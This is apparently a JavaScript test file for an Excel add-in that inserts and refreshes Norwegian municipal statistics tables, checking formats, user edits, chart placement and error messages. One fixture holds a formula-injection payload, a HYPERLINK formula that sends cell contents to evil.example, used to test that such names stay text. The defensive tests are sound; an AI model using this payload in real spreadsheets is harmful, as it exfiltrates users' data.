import { test } from "node:test";
import assert from "node:assert/strict";
import { OfficeMockObject } from "office-addin-mock";
import { BINDINGS_SETTING, insertOrRefresh, readBindings, refreshTables, WorkbookError } from "../src/taskpane/excel.js";
import { efficiencyTable, profileChartTable, profileTable, seriesTable } from "../src/taskpane/layouts.js";
import { FakeWorkbook } from "./support/fake-excel.js";
import { excelFor } from "./support/office.js";
import { fixture } from "./support/fixtures.js";

const profile = fixture("profile-KHT-3201-2024.json");
const request = { region: "3201", area: "KHT", year: 2024, comparisons: ["snitt", "hoyest", "lavest", "indeks"] };
const LABEL = "tjenesteprofilen for Kommunehelse, Bærum 2024";
const binding = { kind: "profile", request, label: LABEL };


function snapshot(book) {
  return JSON.stringify({
    sheets: [...book.sheets.values()].map((s) => [s.name, [...s.cells], [...s.formats], [...s.formulas]]),
    tables: book.tables,
    charts: book.charts,
    settings: [...book.settings],
  });
}

/** A profile whose every 2024 value has moved, as after a corrected import. */
function revised(response, by) {
  const copy = structuredClone(response);
  for (const r of copy.profile.rows) {
    for (const v of r.values) if (v.year === 2024 && v.value !== null) v.value = Math.round((v.value + by) * 1000) / 1000;
  }
  return copy;
}

test("inserting the profile writes one Excel table at the selected cell, formats it and remembers it", async () => {
  const book = new FakeWorkbook({ selection: "Ark1!B3" });
  const layout = profileTable(profile);

  const result = await insertOrRefresh(excelFor(book), layout, binding);

  assert.deepEqual(result, { action: "inserted", table: "Kostra_profil_KHT_3201_2024", address: "Ark1!B3:K20", moved: false });
  assert.deepEqual(book.tableValues("Kostra_profil_KHT_3201_2024"), [layout.header, ...layout.rows]);
  assert.equal(book.sheet("Ark1").formats.get("3,4"), "#,##0.000", "Bærum 2022, ressursbruksindikator");
  assert.equal(book.runs, 1);
  assert.equal(book.syncs, 2, "one sync to load, one to write");
  const stored = JSON.parse(book.settings.get(BINDINGS_SETTING));
  assert.deepEqual(stored, [{ kind: "profile", request, label: LABEL, table: "Kostra_profil_KHT_3201_2024",
    title: "Kommunehelse, Bærum 2024" }]);
});

/** A profile whose first indicator and municipality are named like formulas, as a hostile catalogue import could. */
function namedLikeFormulas(response) {
  const copy = structuredClone(response);
  copy.profile.rows[0].name = '=HYPERLINK("http://evil.example/?d="&A1,"Klikk")';
  copy.profile.region.name = "=1+1";
  return copy;
}

function formulasIn(book) {
  return [...book.sheets.values()].flatMap((s) => [...s.formulas].map((key) => `${s.name}!${key}`));
}

test("the fake Excel host, like Excel, makes a text starting with = a formula unless the cell is formatted as text", () => {
  const book = new FakeWorkbook();

  book.set("Ark1", 0, 0, "=1+1");
  book.sheet("Ark1").formats.set("0,1", "@");
  book.set("Ark1", 0, 1, "=1+1");

  assert.equal(book.isFormula("Ark1", 0, 0), true);
  assert.equal(book.isFormula("Ark1", 0, 1), false);
});

test("names that look like formulas go into a new table as text: each cell is formatted before it is written", async () => {
  const book = new FakeWorkbook();
  const layout = profileTable(namedLikeFormulas(profile));

  await insertOrRefresh(excelFor(book), layout, binding);

  assert.deepEqual(formulasIn(book), []);
  assert.equal(book.get("Ark1", 1, 0), '=HYPERLINK("http://evil.example/?d="&A1,"Klikk")');
  assert.equal(book.get("Ark1", 0, 3), "=1+1 2022");
  assert.equal(book.sheet("Ark1").formats.get("1,0"), "@");
});

test("a name that looks like a formula stays text when a refresh appends its row or rewrites a reformatted cell", async () => {
  const book = new FakeWorkbook();
  const excel = excelFor(book);
  const hostile = namedLikeFormulas(profile);
  hostile.profile.rows[1].name = "=2+2";
  const shorter = structuredClone(hostile);
  shorter.profile.rows = shorter.profile.rows.slice(1, 3);
  const first = profileTable(shorter);
  await insertOrRefresh(excel, first, binding);
  // the user gives the name of the row "=2+2" the General format
  book.sheet("Ark1").formats.set("1,0", "General");

  await refreshTables(excel, [{ binding: { ...binding, table: first.name }, layout: profileTable(hostile) }]);

  assert.deepEqual(formulasIn(book), []);
  const names = book.tableValues(first.name).slice(1).map((r) => r[0]);
  assert.equal(names[0], "=2+2");
  assert.ok(names.includes('=HYPERLINK("http://evil.example/?d="&A1,"Klikk")'), "the appended row");
});

test("the profile chart is a table on the ASSS = 100 scale with a bar chart below it", async () => {
  const book = new FakeWorkbook();
  const layout = profileChartTable(profile);

  await insertOrRefresh(excelFor(book), layout, { kind: "profileChart", request });

  assert.equal(book.charts.length, 1);
  const chart = book.charts[0];
  assert.equal(chart.type, "BarClustered");
  assert.equal(chart.name, "Kostra_profildiagram_KHT_3201_2024_diagram");
  assert.match(chart.title, /Kommunehelse 2024: Bærum mot ASSS/);
  assert.deepEqual(chart.source, { sheet: "Ark1", row: 0, col: 0, height: layout.rows.length + 1, width: 5 });
  assert.equal(chart.position[0], `Ark1!A${layout.rows.length + 3}`, "below the table");
});

test("a series goes in with its line chart, and the efficiency split as a table", async () => {
  const book = new FakeWorkbook();
  const excel = excelFor(book);
  const series = seriesTable(fixture("series-KHT-netto-per-innbygger.json"));
  await insertOrRefresh(excel, series, { kind: "series", request: {} });
  book.select("Ark1!H1");
  const efficiency = efficiencyTable(fixture("efficiency-KHT-3201.json"), "Kommunehelse");
  await insertOrRefresh(excel, efficiency, { kind: "efficiency", request: {} });

  assert.deepEqual(book.tableValues(series.name), [["Region", "2023", "2024"], ["Bærum", 3512, 3650], ["ASSS-snitt", 3390, ".."]]);
  assert.equal(book.charts[0].type, "Line");
  assert.deepEqual(book.tableValues(efficiency.name)[2].slice(0, 4), [2024, 0.998, 1.019, 0.021]);
  assert.equal(JSON.parse(book.settings.get(BINDINGS_SETTING)).length, 2);
});

test("inserting the same table again refreshes it in place instead of adding a second", async () => {
  const book = new FakeWorkbook();
  const excel = excelFor(book);
  await insertOrRefresh(excel, profileTable(profile), binding);
  book.select("Ark1!P40");

  const result = await insertOrRefresh(excel, profileTable(revised(profile, 0.1)), binding);

  assert.equal(result.action, "refreshed");
  assert.equal(book.tables.length, 1);
  assert.equal(book.get("Ark1", 1, 5), 1.072, "ressursbruksindikator 2024 is 0,972 + 0,1");
  assert.equal(JSON.parse(book.settings.get(BINDINGS_SETTING)).length, 1);
});

test("a refresh keeps the user's formatting, the columns the user added and the rows as the user sorted them", async () => {
  const book = new FakeWorkbook();
  const excel = excelFor(book);
  const layout = profileTable(profile);
  await insertOrRefresh(excel, layout, binding);
  const t = book.table(layout.name);
  // The user adds a "Kommentar" column, writes in it, reverses the rows and gives a cell a format of their own.
  const body = book.block("Ark1", 1, 0, t.height - 1, t.width).reverse();
  body.forEach((r, i) => r.forEach((v, c) => book.set("Ark1", 1 + i, c, v)));
  book.set("Ark1", 0, t.width, "Kommentar");
  body.forEach((r, i) => book.set("Ark1", 1 + i, t.width, `merknad ${r[0]}`));
  t.width += 1;
  book.sheet("Ark1").formats.set("1,5", "0.0");

  const newer = profileTable(revised(profile, 0.1));
  await refreshTables(excel, [{ binding: { ...binding, table: layout.name }, layout: newer }]);

  const values = book.tableValues(layout.name);
  assert.equal(values[0][t.width - 1], "Kommentar");
  for (const line of values.slice(1)) {
    const expected = newer.rows.find((r) => r[0] === line[0]);
    assert.deepEqual(line.slice(0, newer.header.length), expected, line[0]);
    assert.equal(line[t.width - 1], `merknad ${line[0]}`);
  }
  assert.equal(book.sheet("Ark1").formats.get("1,5"), "0.0", "the user's own format stays");
});

test("a row the data has gained is appended with its number formats", async () => {
  const book = new FakeWorkbook();
  const excel = excelFor(book);
  const shorter = structuredClone(profile);
  shorter.profile.rows = shorter.profile.rows.slice(0, 3);
  const first = profileTable(shorter);
  await insertOrRefresh(excel, first, binding);

  await refreshTables(excel, [{ binding: { ...binding, table: first.name }, layout: profileTable(profile) }]);

  const values = book.tableValues(first.name);
  assert.equal(values.length, profile.profile.rows.length + 1);
  assert.deepEqual(values.slice(1).map((r) => r[0]), profile.profile.rows.map((r) => r.name));
  assert.equal(book.sheet("Ark1").formats.get(`4,3`), profileTable(profile).formats[3][3]);
});

test("a row whose indicator the data no longer has keeps its name and loses its figures", async () => {
  const book = new FakeWorkbook();
  const excel = excelFor(book);
  const layout = profileTable(profile);
  await insertOrRefresh(excel, layout, binding);
  const fewer = structuredClone(profile);
  const gone = fewer.profile.rows.shift();

  await refreshTables(excel, [{ binding: { ...binding, table: layout.name }, layout: profileTable(fewer) }]);

  const values = book.tableValues(layout.name);
  assert.deepEqual(values[1], [gone.name, ...Array(layout.header.length - 1).fill("")]);
  assert.deepEqual(values.slice(2), layout.rows.slice(1));
});

test("a table the user deleted or renamed stops the refresh, names the table and changes nothing", async () => {
  const book = new FakeWorkbook();
  const excel = excelFor(book);
  const layout = profileTable(profile);
  const chart = profileChartTable(profile);
  await insertOrRefresh(excel, layout, binding);
  book.select("Ark1!N1");
  await insertOrRefresh(excel, chart, { kind: "profileChart", request });
  book.table(layout.name).name = "MinTabell";
  const before = snapshot(book);

  await assert.rejects(
    refreshTables(excel, [
      { binding: { ...binding, table: chart.name }, layout: profileChartTable(revised(profile, 0.1)) },
      { binding: { ...binding, table: layout.name }, layout: profileTable(revised(profile, 0.1)) },
    ]),
    (e) => e instanceof WorkbookError && e.message === "Fant ikke tabellen med tjenesteprofilen for Kommunehelse, Bærum 2024:"
      + " den er slettet eller har fått nytt navn. Sett den inn på nytt. Ingenting i arbeidsboken er endret.",
  );
  assert.equal(snapshot(book), before);
});

test("a protected sheet is named, with how to unprotect it, and nothing is written", async () => {
  const book = new FakeWorkbook();
  const excel = excelFor(book);
  const layout = profileTable(profile);
  await insertOrRefresh(excel, layout, binding);
  book.sheet("Ark1").protected = true;
  const before = snapshot(book);

  await assert.rejects(insertOrRefresh(excel, profileTable(revised(profile, 0.1)), binding),
    { message: "Arket «Ark1» er beskyttet, så tjenesteprofilen for Kommunehelse, Bærum 2024 kan ikke skrives. "
      + "Opphev arkbeskyttelsen (Se gjennom > Opphev arkbeskyttelse) og prøv igjen. Ingenting i arbeidsboken er endret." });
  book.select("Ark1!Z1");
  await assert.rejects(insertOrRefresh(excel, profileChartTable(profile), binding), /Arket «Ark1» er beskyttet/);
  assert.equal(snapshot(book), before);
});

test("a table is never inserted over cells that hold something: it goes below them, with a row of air", async () => {
  const book = new FakeWorkbook({ selection: "Ark1!A1" });
  book.set("Ark1", 5, 2, "Mitt notat");
  const layout = profileTable(profile);

  const result = await insertOrRefresh(excelFor(book), layout, binding);

  assert.deepEqual(result, { action: "inserted", table: layout.name, address: "Ark1!A8:J25", moved: true });
  assert.equal(book.get("Ark1", 5, 2), "Mitt notat");
  assert.deepEqual(book.tableValues(layout.name), [layout.header, ...layout.rows]);
});

test("a second insert at the same cell goes under the first table, and a third under the second one's chart", async () => {
  const book = new FakeWorkbook({ selection: "Ark1!A1" });
  const excel = excelFor(book);
  await insertOrRefresh(excel, profileTable(profile), binding);
  const chart = profileChartTable(profile);

  const second = await insertOrRefresh(excel, chart, { kind: "profileChart", request, label: "profildiagrammet" });
  const third = await insertOrRefresh(excel, seriesTable(fixture("series-KHT-netto-per-innbygger.json")),
    { kind: "series", request: {}, label: "tidsserien" });

  // the profile fills rows 1–18; the chart table rows 20–37 and its chart rows 39–57 (setPosition's end cell)
  assert.deepEqual([second.address, second.moved], ["Ark1!A20:E37", true]);
  assert.deepEqual(book.charts[0].position, ["Ark1!A39", "Ark1!H57"]);
  assert.equal(third.address, "Ark1!A59:C61");
  assert.equal(book.tables.length, 3);
});

test("a column of the add-in's that the user deleted or renamed is named, and nothing is written", async () => {
  const book = new FakeWorkbook();
  const excel = excelFor(book);
  const layout = profileTable(profile);
  await insertOrRefresh(excel, layout, binding);
  book.set("Ark1", 0, 6, "Snitt");
  const before = snapshot(book);

  await assert.rejects(refreshTables(excel, [{ binding: { ...binding, table: layout.name }, layout }]),
    /Tabellen med tjenesteprofilen for Kommunehelse, Bærum 2024 mangler kolonnen «ASSS-snitt 2024» \(slettet eller omdøpt\)/);
  assert.equal(snapshot(book), before);
});

test("a figure that became final loses its (f) on refresh, and one that became preliminary gets it; the user's format stays", async () => {
  const book = new FakeWorkbook();
  const excel = excelFor(book);
  const march = structuredClone(profile);
  march.profile.rows[0].values[2].vintage = "preliminary";
  const layout = profileTable(march);
  await insertOrRefresh(excel, layout, binding);
  assert.equal(book.sheet("Ark1").formats.get("1,5"), '#,##0.000" (f)"');
  book.sheet("Ark1").formats.set("1,5", '0.00" (f)"'); // the user shows two decimals
  const june = structuredClone(profile);
  june.profile.rows[0].values[2].vintage = "final";
  june.profile.rows[1].values[2].vintage = "preliminary";

  await refreshTables(excel, [{ binding: { ...binding, table: layout.name }, layout: profileTable(june) }]);

  assert.equal(book.sheet("Ark1").formats.get("1,5"), "0.00", "final: the mark goes, the user's decimals stay");
  assert.equal(book.sheet("Ark1").formats.get("2,5"), profileTable(june).formats[1][5]);
  assert.match(book.sheet("Ark1").formats.get("2,5"), /" \(f\)"$/);
});

test("the bindings are read from the workbook settings after one load and sync (office-addin-mock)", async () => {
  const stored = [{ kind: "profile", table: "Kostra_profil_KHT_3201_2024", request }];
  const excel = new OfficeMockObject({
    context: {
      workbook: {
        settings: {
          item: { value: JSON.stringify(stored) },
          getItemOrNullObject(key) {
            assert.equal(key, BINDINGS_SETTING);
            return this.item;
          },
        },
      },
    },
    async run(batch) {
      return batch(this.context);
    },
  });
  // Office gives isNullObject after any sync, without a load.
  excel.context.workbook.settings.item.isNullObject = false;

  assert.deepEqual(await readBindings(excel), stored);
});

test("a workbook the add-in has not written to has no bindings", async () => {
  assert.deepEqual(await readBindings(excelFor(new FakeWorkbook())), []);
});
